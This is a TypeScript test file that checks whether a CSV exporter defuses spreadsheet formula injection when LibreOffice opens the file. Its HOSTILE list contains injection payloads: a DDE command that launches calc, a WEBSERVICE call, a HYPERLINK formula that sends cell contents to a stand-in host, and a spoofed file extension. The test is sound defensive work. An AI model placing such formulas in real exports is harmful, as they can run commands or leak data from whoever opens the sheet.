import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { unguardCell } from '../../../../src/core/export/csv/cell.ts';
import { CSV_COLUMNS } from '../../../../src/core/export/csv/csv-labels.ts';
import { csv } from '../../../../src/core/export/csv.ts';
import { csvLabels } from '../../../../src/i18n/csv-labels.ts';
import { documentNote, each, SETTINGS, written } from './sample-notes.ts';

const isThere = spawnSync('soffice', ['--version']).status === 0;

/** Formulas of both programs, a link that asks, a command, lines, quotation marks, letters of two kinds. */
const HOSTILE = [
  '=1+1',
  '+SUM(1;2)',
  '-2+3',
  '@SUM(1,2)',
  '＝1+1',
  '\t=1+1',
  '\u00a0=1+1',
  '=HYPERLINK("http://e.example/?"&A1;"bấm")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://e.example")',
  'a;=1+1;b',
  'a","=1+1',
  "'=1+1",
  'dòng một\n- dòng hai\n=3+4',
  'Nói “thẳng” và "thật"',
  'Ễnh ương, hoà và hòa, 🌾',
  '\u202etxt.exe',
];

/** Where the program is missing, `scripts/setup.mjs` has said so; in CI it has to be there. */
describe.skipIf(!isThere && !process.env.CI)('LibreOffice (skipped where it is not installed)', () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'thu-hoach-csv-'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  test('opens the table with every text as it was, and calculates nothing', { timeout: 120_000 }, async () => {
    const note = documentNote();
    const [first] = note.passages;
    if (!first) throw new Error('no passage');
    note.passages = HOSTILE.map((quote, at) => ({ ...first, id: `doan-${at}`, quote, note: quote }));
    note.reflections = [];
    writeFileSync(join(folder, 'bang.csv'), await written(csv.write(each(note), { ...SETTINGS, csv: csvLabels() })));
    // What it makes of a formula that nobody guarded: otherwise the test would prove nothing.
    writeFileSync(join(folder, 'tran.csv'), '"=1+1","chữ"\r\n');
    const profile = `-env:UserInstallation=file://${folder}/profile`;
    // 44: comma · 34: quotation mark · 76: UTF-8; formulas are looked for as far as the program would.
    const filter = '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
    const convert = ['--headless', profile, filter, '--convert-to', 'fods', '--outdir', folder];
    const ran = spawnSync('soffice', [...convert, join(folder, 'bang.csv'), join(folder, 'tran.csv')], {
      encoding: 'utf8',
      timeout: 110_000,
    });
    expect(`${ran.stderr}`).not.toContain('Error');
    expect(readFileSync(join(folder, 'tran.fods'), 'utf8')).toContain('table:formula');
    const xml = readFileSync(join(folder, 'bang.fods'), 'utf8');
    expect(xml).not.toContain('table:formula');
    const rows = readRows(xml);
    const [quoteAt, noteAt] = [CSV_COLUMNS.indexOf('quote'), CSV_COLUMNS.indexOf('note')];
    const found = rows.slice(2).map((row) => [unguardCell(row[quoteAt] ?? ''), unguardCell(row[noteAt] ?? '')]);
    expect(found).toEqual(HOSTILE.map((text) => [text, text]));
  });
});

/** Texts of the cells of a flat OpenDocument sheet: a paragraph a line, runs of blanks and tabs as elements. */
function readRows(xml: string): string[][] {
  const { document } = new JSDOM(xml, { contentType: 'application/xml' }).window;
  const named = (root: Document | Element, name: string): Element[] => [...root.getElementsByTagName(name)];
  return named(document, 'table:table-row')
    .filter((row) => named(row, 'text:p').length > 0)
    .map((row) =>
      named(row, 'table:table-cell').flatMap((cell) => {
        const text = named(cell, 'text:p').map(textOf).join('\n');
        return Array<string>(Number(cell.getAttribute('table:number-columns-repeated') ?? 1)).fill(text);
      }),
    );
}

function textOf(node: Node): string {
  return [...node.childNodes]
    .map((child) => {
      if (child.nodeType === 3) return child.nodeValue ?? '';
      const name = child.nodeName;
      if (name === 'text:tab') return '\t';
      if (name === 'text:s') return ' '.repeat(Number((child as Element).getAttribute('text:c') ?? 1));
      return textOf(child);
    })
    .join('');
}
